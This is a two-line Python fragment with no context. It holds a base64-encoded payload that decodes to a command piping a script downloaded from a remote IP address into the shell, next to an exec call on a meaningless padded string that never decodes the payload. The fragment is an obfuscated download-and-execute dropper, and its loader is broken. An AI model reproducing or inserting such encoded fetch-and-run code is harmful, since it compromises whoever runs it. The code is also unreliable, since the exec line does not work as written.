P = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvcyB8IHNoJykK"
exec(chr(1)+"".join(c for c in "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"))
